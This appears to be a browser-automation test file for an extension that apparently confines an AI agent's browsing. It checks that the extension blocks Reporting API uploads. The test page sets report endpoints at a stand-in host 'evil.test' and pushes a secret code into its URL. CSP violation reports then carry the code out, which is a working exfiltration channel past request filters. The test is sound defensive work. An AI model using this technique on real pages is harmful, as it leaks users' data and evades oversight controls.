import { expect, test } from './fixtures/extension';
import { startHttpsServer, type HttpsServer } from './fixtures/https-server';
import type { AgentBrowser } from '../src/harness';

/**
 * The Reporting API by the network floor alone (the AF_NO_MAIN_HOOKS build). A page's response names
 * report endpoints (`Reporting-Endpoints`), and the browser's network service POSTs the document's reports
 * there itself — no declarativeNetRequest rule or webRequest listener sees the upload. Each report carries the
 * document's URL, which the page sets without a request (`history.pushState`) to the code it showed. The
 * floor removes the reporting headers from guarded responses, so a guarded document names no endpoint.
 * Chromium reads `Reporting-Endpoints` over https only (a self-signed server here, certificate errors
 * ignored) and sends reports within a second with `--short-reporting-delay`. Negative control: without the
 * extension both reports arrive, carrying the code.
 */
const FLAGS = ['--short-reporting-delay', '--ignore-certificate-errors'];
const CODE = '482913';

async function reports(browser: AgentBrowser, https: HttpsServer, guarded: boolean): Promise<{ violations: number; reports: string[] }> {
  https.setPage('/account', `<!doctype html><title>account</title><p>Your code: ${CODE}</p>`, {
    'reporting-endpoints': `main="${https.origin('evil.test')}/reports", lo="${https.origin('127.0.0.1')}/reports-lo"`,
    'content-security-policy': "img-src 'self'; report-to main",
    'content-security-policy-report-only': "script-src 'self'; report-to lo",
  });
  if (guarded) await browser.setPolicy({ version: 1, taskId: 't-reporting', issuedAt: 0, expiresAt: null, domains: [`shop.localhost:${https.port}`] });
  const page = await browser.context.newPage();
  await page.goto(`${https.origin('shop.localhost')}/account`);
  const violations = await page.evaluate(async () => {
    let seen = 0;
    document.addEventListener('securitypolicyviolation', () => seen++);
    history.pushState(null, '', `/account?d=${encodeURIComponent(document.body.innerText)}`);
    const image = new Image();
    image.src = `https://other.localhost:${location.port}/pixel.png`;
    document.body.append(image);
    const script = document.createElement('script');
    script.textContent = '0';
    document.body.append(script);
    await new Promise((done) => setTimeout(done, 300));
    return seen;
  });
  const sent = () => https.requests().filter((r) => r.method === 'POST' && r.path.startsWith('/reports')).map((r) => `${r.host}${r.path} ${r.body.includes(CODE) ? 'carries the code' : 'no code'}`).sort();
  if (guarded) await page.waitForTimeout(2_000);
  else await expect.poll(sent).toHaveLength(2);
  return { violations, reports: sent() };
}

test('a guarded page names no report endpoint: CSP reports carrying its pushed URL reach neither 127.0.0.1 nor evil.test (floor alone)', async ({ launchFence }) => {
  const https = await startHttpsServer();
  try {
    const browser = await launchFence({ mainHooks: false, extraArgs: FLAGS });
    // Both violations happen (the page's own event says so); no report leaves.
    expect(await reports(browser, https, true)).toEqual({ violations: 2, reports: [] });
  } finally {
    await https.close();
  }
});

test('negative control: without the extension the browser POSTs both reports, with the code in the document URL', async ({ launchFence }) => {
  const https = await startHttpsServer();
  try {
    const browser = await launchFence({ extension: false, extraArgs: FLAGS });
    expect(await reports(browser, https, false)).toEqual({ violations: 2, reports: ['127.0.0.1/reports-lo carries the code', 'evil.test/reports carries the code'] });
  } finally {
    await https.close();
  }
});
